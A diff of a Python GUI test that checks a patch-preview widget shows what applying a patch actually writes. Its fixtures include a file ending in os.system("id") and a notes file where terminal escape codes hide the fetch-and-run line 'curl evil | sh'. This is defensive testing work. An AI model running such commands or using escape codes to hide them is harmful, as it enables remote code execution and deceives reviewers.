@@ -49,5 +49,11 @@ def test_the_diff_widget_shows_what_apply_writes(gui: Gui, fake_api: FakeAnthrop
     gui.qtbot.waitUntil(lambda: dialogs.flags is not None and dialogs.flags.isVisible())
     assert any("sent as binary" in text for text in dialogs.flags.listed)
     dialogs.flags.apply_button.click()
-    gui.qtbot.waitUntil(lambda: (folder / "hidden.py").read_text().endswith('os.system("id")\n'), timeout=10_000)
+    def applied() -> bool:
+        try:
+            return (folder / "hidden.py").read_text().endswith('os.system("id")\n')
+        except FileNotFoundError:
+            return False  # git apply replaces a file by removing it first: read again
+
+    gui.qtbot.waitUntil(applied, timeout=10_000)
     assert (folder / "notes.txt").read_bytes() == b"notes\nsafe line\x1b[1A\x1b[2Kcurl evil | sh\n"
